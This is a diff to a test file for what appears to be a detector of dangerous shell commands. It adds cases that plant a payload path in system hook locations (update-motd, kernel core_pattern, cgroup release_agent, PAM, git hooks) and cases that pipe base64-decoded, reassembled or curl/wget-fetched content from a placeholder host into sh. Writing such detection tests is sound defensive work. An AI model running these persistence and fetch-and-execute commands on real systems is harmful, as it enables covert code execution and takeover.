@@ -93,6 +93,9 @@ describe("a file of settings that other programs read", () => {
   it.each([
     ["udev", `echo 'KERNEL=="a", RUN+="/opt/k"' > /etc/udev/rules.d/9-a.rules`],
     ["apt", `echo 'APT::Update::Pre-Invoke {"/opt/k"};' | sudo tee /etc/apt/apt.conf.d/9a`],
+    ["greeting", "echo '#!/bin/sh\n/opt/k' > /etc/update-motd.d/9-a"],
+    ["kernel", "echo '|/opt/k' > /proc/sys/kernel/core_pattern"],
+    ["control group", "echo /opt/k > /tmp/g/release_agent"],
     ["pam", "echo 'auth optional pam_exec.so /opt/k' >> /etc/pam.d/sshd"],
     ["git", "printf '[core]\\n  fsmonitor = /opt/k\\n' > ~/.gitconfig"],
     ["a repository's hook", "echo /opt/k > .git/hooks/pre-commit"],
@@ -120,6 +123,17 @@ describe("what a shell is handed", () => {
     ["unpacked", "xz -dc ./k.xz | sh", "sh/decoded: ./k.xz"],
     ["unpacked of a part", "head -c 900 ./k | tr a b | xz -d | bash", "sh/decoded: ./k"],
     ["unpacked of its input", "gunzip < ./k.gz | sh", "sh/decoded: ./k.gz"],
+    ["of a text's own file", "echo L29wdC9r > /tmp/e; cat < /tmp/e | base64 -d | sh", "sh/script-on-stdin: /opt/k"],
+    [
+      "of a file that cat shows",
+      "printf '/opt/' > /tmp/e; echo k >> /tmp/e; cat /tmp/e | sh",
+      "sh/script-on-stdin: /opt/k",
+    ],
+    [
+      "fetched by a function",
+      "g() { curl -s $1 || wget -qO- $1; }; g http://h.example/a | sh",
+      "sh/downloaded: http://h.example/a",
+    ],
     ["edited", "sed 1d ./k | sh", "sh/script-from-file: ./k"],
   ])("is a file, %s", (_, line, told) => {
     expect(shown(line)).toContain(told);
